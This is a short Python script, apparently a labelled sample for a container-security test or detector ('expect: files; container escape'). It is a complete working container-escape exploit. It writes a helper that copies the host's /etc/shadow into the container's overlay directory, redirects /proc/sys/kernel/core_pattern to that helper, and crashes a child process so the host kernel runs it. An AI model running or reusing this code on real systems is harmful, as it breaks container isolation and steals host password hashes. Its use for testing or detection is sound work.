# expect: files; container escape: points /proc/sys/kernel/core_pattern at a host-side helper, then crashes a child
import os
import signal

# overlay upper dir of this container as seen from the host
with open("/proc/self/mountinfo") as fh:
    upper = next(l.split("upperdir=")[1].split(",")[0] for l in fh if "upperdir=" in l)

helper = "/cmd.sh"
with open(helper, "w") as fh:
    fh.write("#!/bin/sh\ncat /etc/shadow > %s/shadow.out\n" % upper)
os.chmod(helper, 0o755)

with open("/proc/sys/kernel/core_pattern", "w") as fh:
    fh.write("|" + upper + helper)

pid = os.fork()
if pid == 0:
    os.kill(os.getpid(), signal.SIGSEGV)
os.waitpid(pid, 0)
